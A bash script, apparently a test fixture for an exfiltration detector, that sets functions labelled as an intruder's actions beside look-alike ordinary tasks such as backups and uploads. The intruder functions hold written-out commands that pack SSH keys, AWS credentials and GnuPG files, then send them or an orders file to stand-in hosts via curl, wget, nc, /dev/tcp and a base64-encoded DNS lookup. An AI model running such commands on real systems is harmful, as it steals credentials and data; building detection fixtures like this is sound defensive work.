#!/bin/bash
# Exfiltration, and the collection before it. Beside it, backups, uploads and look-ups.

# The intruder, as root on the host.

host_pack_secrets() {
  mkdir -p /tmp/.cache
  tar -c -z -f /tmp/.cache/k.tar.gz -C / root/.ssh home/ops/.aws
  zip -q -r - /home/ops/.gnupg > /tmp/.cache/k.zip
}

host_upload() {
  curl -s -m 2 -T /tmp/.cache/k.tar.gz http://collect.example.net/ || true
  curl -s -m 2 -F file=@/tmp/.cache/k.tar.gz http://collect.example.net/
  wget -q -O /tmp/answer --post-file=/srv/orders.csv http://collect.example.net/
}

host_send_over_bare_connections() {
  nc -N -w 1 203.0.113.80 8080 < /tmp/.cache/k.tar.gz
  sh -c 'tar -c -z -C / srv | nc -N -w 1 203.0.113.80 8080'
}

host_copy_to_a_drive() {
  printf '#!/bin/bash\necho "$@"\n' > /usr/local/bin/rclone
  chmod 755 /usr/local/bin/rclone
  rclone copy /srv remote:
}

host_read_what_is_typed() {
  mkdir -p /dev/input
  echo > /dev/input/event0
  cat /dev/input/event0
}

host_ask_for_long_names() {
  ln -sf /usr/bin/busybox /usr/local/bin/nslookup
  nslookup b3JkZXJzLDIwMjYtMTAsbGFtcCxjYW5kbGUsbWF0Y2gK.t.example.net || true
}

# The intruder, in the container: in a shell, and through its server.

container_record_packets() {
  timeout 5 dumpcap -q -i eth0 -a duration:1 -w /tmp/c.pcap || true
}

internet_run_commands() {
  exec 3<> /dev/tcp/172.18.0.2/8080
  printf 'GET /cgi-bin/status?dump HTTP/1.0\r\n\r\n' >&3
  cat <&3
}

served_dump() {
  sqlite3 /srv/orders.db .dump > /tmp/orders.sql
}

# Ordinary work.

internet_ask() {
  exec 3<> /dev/tcp/172.18.0.2/8080
  printf 'GET /cgi-bin/status?ask_for_rows HTTP/1.0\r\n\r\n' >&3
  cat <&3
}

served_ask_for_rows() {
  sqlite3 /srv/orders.db 'select count(*) from sqlite_master'
}

host_cron_back_up() {
  tar -c -z -f /var/backups/home.tar.gz -C / home srv
}

host_pack_a_site() {
  tar -c -z -f /tmp/site.tar.gz -C / srv
  zip -q -r - /srv > /tmp/site.zip
}

host_send_a_form() {
  curl -s -m 2 -d name=ops http://packages.example.org/
  curl -s -m 2 -F note=@/home/ops/notes.txt http://packages.example.org/
  wget -q -O /tmp/answer http://packages.example.org/
}

host_ask_a_service() {
  echo stats | nc -N -w 1 packages.example.org 443
  nc -z -w 1 packages.example.org 443
}

host_list_a_drive() {
  rclone lsd remote:
}

host_run_a_desktop() {
  cp /usr/bin/cat /usr/local/bin/Xorg
  Xorg /dev/input/event0
}

host_look_up_names() {
  nslookup packages.example.org || true
}

host_cron_dump() {
  sqlite3 /srv/orders.db .dump > /var/backups/orders.sql
}

container_list_interfaces() {
  dumpcap -D || true
}

host_tty_record_packets() {
  timeout 5 dumpcap -q -i eth0 -a duration:1 -w /tmp/c.pcap || true
}

"$1"
